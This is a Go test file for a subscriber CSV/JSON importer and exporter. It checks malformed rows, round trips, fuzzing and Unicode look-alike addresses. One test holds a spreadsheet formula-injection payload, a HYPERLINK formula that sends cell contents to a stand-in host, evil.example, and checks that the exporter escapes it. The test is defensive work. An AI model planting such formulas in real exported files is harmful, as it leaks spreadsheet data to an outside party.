package subscribers_test

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"briefcast/store"
	"briefcast/store/storetest"
	"briefcast/subscribers"
)

func readAll(t *testing.T, in string, batch int) ([]subscribers.ImportRow, []subscribers.RowError) {
	t.Helper()
	var rows []subscribers.ImportRow
	rejected, err := subscribers.ReadCSV(strings.NewReader(in), batch, func(b []subscribers.ImportRow) error {
		if len(b) > batch {
			t.Errorf("batch of %d, want at most %d", len(b), batch)
		}
		rows = append(rows, b...)
		return nil
	})
	if err != nil {
		t.Fatalf("ReadCSV: %v", err)
	}
	return rows, rejected
}

func TestReadCSVHeader(t *testing.T) {
	tests := []struct {
		name, in, wantErr string
	}{
		{"empty", "", "empty"},
		{"no email", "name,digests\nAnn,daily\n", "no email column"},
		{"unknown", "email,phone,fax\nx@example.com,1,2\n", `"phone", "fax"`},
		{"twice", "email,Email\n", "appears twice"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := subscribers.ReadCSV(strings.NewReader(tt.in), 10, func([]subscribers.ImportRow) error { return nil })
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("got %v, want an error containing %q", err, tt.wantErr)
			}
		})
	}
	// Columns in any order, any case, header only.
	rows, rej := readAll(t, " Status ,EMAIL\nactive,a@example.com\n", 10)
	if len(rej) != 0 || len(rows) != 1 || rows[0].Status != subscribers.Active || rows[0].Email != "a@example.com" {
		t.Errorf("got %+v %v", rows, rej)
	}
	if rows, rej := readAll(t, "email\n", 10); len(rows)+len(rej) != 0 {
		t.Errorf("header only: %v %v", rows, rej)
	}
	stop := errors.New("stop")
	_, err := subscribers.ReadCSV(strings.NewReader("email\na@example.com\n"), 10, func([]subscribers.ImportRow) error { return stop })
	if !errors.Is(err, stop) {
		t.Errorf("fn error: got %v, want stop", err)
	}
}

// hostile is an import file with every kind of trouble, each bad row on a
// known line.
var hostile = "\uFEFFemail,name,digests,tags,timezone,status\r\n" + // 1
	"good1@example.com,Ann,daily,,UTC,\r\n" + // 2 ok
	"bad address,Bob,,,,\r\n" + // 3 space
	"\"Quoted@Example.com\",\"Name, with comma \"\"quoted\"\"\",daily;weekly,a;b,,active\r\n" + // 4 ok
	"\"multi@example.com\",\"Line one\nline two\",,,,\r\n" + // 5-6 line break in name
	"\r\n" + // 7 empty
	"long@example.com," + strings.Repeat("x", 10000) + ",,,,\r\n" + // 8 too long
	"GOOD1@EXAMPLE.COM,Dup,,,,\r\n" + // 9 duplicate of 2
	"toomany@example.com,a,,,,,extra\r\n" + // 10 too many cells
	"tz@example.com,,,,Mars/Base,\r\n" + // 11 bad zone
	"st@example.com,,,,,gone\r\n" + // 12 bad status
	"bare\"quote@example.com,,,,,\r\n" + // 13 bare quote
	"good3@Bücher.example,,,,,\n" + // 14 ok, LF only
	"Ann <ann@example.com>,,,,,\r\n" + // 15 display name
	"dig@example.com,,Bad Digest,,,\r\n" + // 16 bad digest
	"few@example.com,x\r\n" + // 17 too few cells
	"\"" + strings.Repeat("y", 10000) + "@example.com\",,,,,\r\n" + // 18 long address
	"good4@example.com,\"Zoë \"\"Z\"\" Ünal\",,t1,Asia/Kolkata,pending\r\n" + // 19 ok
	"\"unterminated@example.com,,,,,\r\n" // 20 open quote to EOF

func TestReadCSVHostile(t *testing.T) {
	rows, rejected := readAll(t, hostile, 2)
	var emails []string
	for _, r := range rows {
		emails = append(emails, r.Email)
	}
	if diff := cmp.Diff([]string{"good1@example.com", "Quoted@example.com", "good3@xn--bcher-kva.example", "good4@example.com"}, emails); diff != "" {
		t.Errorf("imported (-want +got):\n%s", diff)
	}
	wantLines := map[int]string{3: "email", 5: "name", 8: "name", 9: "email", 10: "", 11: "timezone", 12: "status", 13: "", 15: "email", 16: "digests", 17: "", 18: "name", 20: ""}
	wantLines[18] = "email"
	got := map[int]string{}
	for _, r := range rejected {
		got[r.Line] = r.Field
		if !strings.HasPrefix(r.Error(), "line ") {
			t.Errorf("error %q", r.Error())
		}
	}
	if diff := cmp.Diff(wantLines, got); diff != "" {
		t.Errorf("rejected lines -> field (-want +got):\n%s\n%v", diff, rejected)
	}
	for _, r := range rejected {
		if r.Line == 9 && r.Msg != "duplicate of line 2" {
			t.Errorf("duplicate message %q", r.Msg)
		}
		if r.Line == 8 && !strings.Contains(r.Msg, "10000 bytes") {
			t.Errorf("long field message %q", r.Msg)
		}
	}
	q := rows[1]
	if q.Name != `Name, with comma "quoted"` || !cmp.Equal(q.Digests, []string{"daily", "weekly"}) || q.Status != subscribers.Active || q.Line != 4 {
		t.Errorf("quoted row = %+v", q)
	}

	// Through the store: every good row in, nothing else.
	st := storetest.SQLite(t)
	var total subscribers.ImportCounts
	if _, err := subscribers.ReadCSV(strings.NewReader(hostile), 3, func(b []subscribers.ImportRow) error {
		c, err := st.Import(context.Background(), b)
		total.Added += c.Added
		total.Rejected += c.Rejected
		return err
	}); err != nil {
		t.Fatal(err)
	}
	if total.Added != 4 || total.Rejected != 0 {
		t.Errorf("store counts %+v", total)
	}
	counts, _ := st.Counts(context.Background())
	if counts[subscribers.Active]+counts[subscribers.Pending] != 4 {
		t.Errorf("store holds %v", counts)
	}
}

func TestCSVRoundTrip(t *testing.T) {
	ctx := context.Background()
	src := storetest.SQLite(t)
	subs := []*subscribers.Subscriber{
		{Email: "Plain@example.com", Status: subscribers.Active},
		{Email: "full@example.com", Name: `Dr. "Q", Esq.`, Status: subscribers.Unsubscribed, Digests: []string{"daily", "weekly"}, Tags: []string{"a b", "c"}, Timezone: "Europe/Lisbon"},
		{Email: "idn@xn--bcher-kva.example", Name: "Ünïcødé ✓", Status: subscribers.Pending},
		{Email: "b@example.com", Name: "=SUM(A1)", Status: subscribers.Bounced, Digests: []string{"daily"}},
		{Email: "c@example.com", Status: subscribers.Complained},
	}
	for _, s := range subs {
		if err := src.Create(ctx, s, "test"); err != nil {
			t.Fatal(err)
		}
	}
	export := func(st *store.DB) string {
		var buf bytes.Buffer
		w := subscribers.NewCSVWriter(&buf)
		if err := st.List(ctx, subscribers.Filter{}, w.Write); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	out := export(src)
	dst := storetest.SQLite(t)
	rejected, err := subscribers.ReadCSV(strings.NewReader(out), 2, func(b []subscribers.ImportRow) error {
		_, err := dst.Import(ctx, b)
		return err
	})
	if err != nil || len(rejected) != 0 {
		t.Fatalf("read back: %v %v", rejected, err)
	}
	if again := export(dst); again != out {
		t.Errorf("round trip changed the export:\n%s\nthen\n%s", out, again)
	}
	// Importing an export into its own store changes nothing.
	var c subscribers.ImportCounts
	subscribers.ReadCSV(strings.NewReader(out), 100, func(b []subscribers.ImportRow) error {
		c, err = src.Import(ctx, b)
		return err
	})
	if c != (subscribers.ImportCounts{Unchanged: len(subs)}) {
		t.Errorf("re-import into the source: %+v", c)
	}
	var empty bytes.Buffer
	w := subscribers.NewCSVWriter(&empty)
	w.Flush()
	if empty.String() != "email,name,digests,tags,timezone,status\n" {
		t.Errorf("empty export %q", empty.String())
	}
}

func TestJSONWriter(t *testing.T) {
	var buf bytes.Buffer
	w := subscribers.NewJSONWriter(&buf)
	w.Write(&subscribers.Subscriber{ID: 7, Email: "a@example.com", Name: "<A>", Status: subscribers.Active})
	w.Write(&subscribers.Subscriber{ID: 8, Email: "b@example.com", Digests: []string{"daily"}})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != 2 || !strings.Contains(lines[0], `"email":"a@example.com"`) || !strings.Contains(lines[1], `"digests":["daily"]`) {
		t.Errorf("got %q", buf.String())
	}
}

func FuzzReadCSV(f *testing.F) {
	f.Add(hostile)
	f.Add("email,name\na@example.com,A\nB@example.com,\"x\ny\"\n")
	f.Add("status,email,tags\nactive,a@x.io,a;b;;c\n\"\n")
	f.Fuzz(func(t *testing.T, in string) {
		imported := map[int]bool{}
		rejected, err := subscribers.ReadCSV(strings.NewReader(in), 3, func(b []subscribers.ImportRow) error {
			for _, r := range b {
				if r.Line <= 0 || imported[r.Line] {
					t.Fatalf("row line %d bad or repeated", r.Line)
				}
				if _, err := subscribers.NormalizeEmail(r.Email); err != nil {
					t.Fatalf("imported invalid address %q: %v", r.Email, err)
				}
				imported[r.Line] = true
			}
			return nil
		})
		if err != nil {
			return
		}
		for _, r := range rejected {
			if r.Line <= 0 {
				t.Fatalf("rejected line %d", r.Line)
			}
			if imported[r.Line] {
				t.Fatalf("line %d both imported and rejected", r.Line)
			}
		}
	})
}

func TestImportCSV(t *testing.T) {
	st := storetest.SQLite(t)
	in := "email,digests\n" +
		"a@example.com,daily\n" +
		"b@example.com,secret\n" +
		"bad,daily\n" +
		"c@example.com,\n"
	noSecret := func(r *subscribers.ImportRow) *subscribers.RowError {
		for _, d := range r.Digests {
			if d == "secret" {
				return &subscribers.RowError{Line: r.Line, Field: "digests", Msg: "unknown digest secret"}
			}
		}
		return nil
	}
	for _, batch := range []int{1, 2, 100} {
		c, rejected, err := subscribers.ImportCSV(context.Background(), st, strings.NewReader(in), batch, noSecret)
		if err != nil {
			t.Fatal(err)
		}
		var lines []int
		for _, r := range rejected {
			lines = append(lines, r.Line)
		}
		if !cmp.Equal(lines, []int{3, 4}) || c.Rejected != 2 || c.Added+c.Unchanged != 2 {
			t.Errorf("batch %d: counts %+v, rejected lines %v", batch, c, lines)
		}
	}
	// A store that fails stops the import with its error.
	st.Close()
	if _, _, err := subscribers.ImportCSV(context.Background(), st, strings.NewReader(in), 1, nil); err == nil {
		t.Error("no error from a closed store")
	}
	if _, _, err := subscribers.ImportCSV(context.Background(), storetest.SQLite(t), strings.NewReader("name\nx\n"), 1, nil); err == nil {
		t.Error("no error for a file without an email column")
	}
}

// TestCSVFormulaCells checks that cells a spreadsheet would run as a
// formula are written with a leading quote, and that reading the file
// back gives the stored values exactly.
func TestCSVFormulaCells(t *testing.T) {
	ctx := context.Background()
	subs := []*subscribers.Subscriber{
		{Email: "eq@example.com", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Tags: []string{"=1+1", "ok"}, Status: subscribers.Active},
		{Email: "plus@example.com", Name: "+44 20 7946 0000", Tags: []string{"+tag"}, Status: subscribers.Active},
		{Email: "minus@example.com", Name: "-2+3", Tags: []string{"-x"}, Status: subscribers.Active},
		{Email: "at@example.com", Name: "@SUM(A1:A9)", Tags: []string{"@home"}, Status: subscribers.Active},
		{Email: "quoted@example.com", Name: "'=already quoted", Tags: []string{"''+twice"}, Status: subscribers.Active},
		{Email: "plain@example.com", Name: "O'Brien", Tags: []string{"'quote", "mid=dle"}, Status: subscribers.Active},
	}
	src := storetest.SQLite(t)
	for _, s := range subs {
		if err := src.Create(ctx, s, "test"); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	w := subscribers.NewCSVWriter(&buf)
	if err := src.List(ctx, subscribers.Filter{}, w.Write); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "email,name,digests,tags,timezone,status\n" +
		`eq@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,'=1+1;ok,,active` + "\n" +
		"plus@example.com,'+44 20 7946 0000,,'+tag,,active\n" +
		"minus@example.com,'-2+3,,'-x,,active\n" +
		"at@example.com,'@SUM(A1:A9),,'@home,,active\n" +
		"quoted@example.com,''=already quoted,,'''+twice,,active\n" +
		"plain@example.com,O'Brien,,'quote;mid=dle,,active\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("export (-want +got):\n%s", diff)
	}
	rows, rejected := readAll(t, buf.String(), 10)
	if len(rejected) != 0 || len(rows) != len(subs) {
		t.Fatalf("read back %d rows, rejected %v", len(rows), rejected)
	}
	for i, r := range rows {
		if r.Name != subs[i].Name || !cmp.Equal(r.Tags, subs[i].Tags) {
			t.Errorf("row %d read back as %q %q, want %q %q", i, r.Name, r.Tags, subs[i].Name, subs[i].Tags)
		}
	}
}

// TestReadCSVLookAlikes: an import checks addresses and names exactly as
// the form and the CLI do: a look-alike address is rejected with its line
// and column, the good rows around it are kept, and invisible characters
// leave names.
func TestReadCSVLookAlikes(t *testing.T) {
	in := "email,name\n" +
		"kevin@example.com,Kevin\n" +
		"\u212Aevin@example.com,Mallory\n" +
		"ke\u200Bvin@example.com,Mallory\n" +
		"ann@example.com,\u202EAnn\u200B\n"
	rows, rejected := readAll(t, in, 10)
	if len(rows) != 2 || rows[0].Email != "kevin@example.com" || rows[1].Name != "Ann" {
		t.Errorf("rows: %+v", rows)
	}
	if len(rejected) != 2 || rejected[0].Line != 3 || rejected[0].Field != "email" || rejected[1].Line != 4 ||
		!strings.Contains(rejected[0].Msg, "U+212A") || !strings.Contains(rejected[1].Msg, "U+200B") {
		t.Errorf("rejected: %+v", rejected)
	}
}
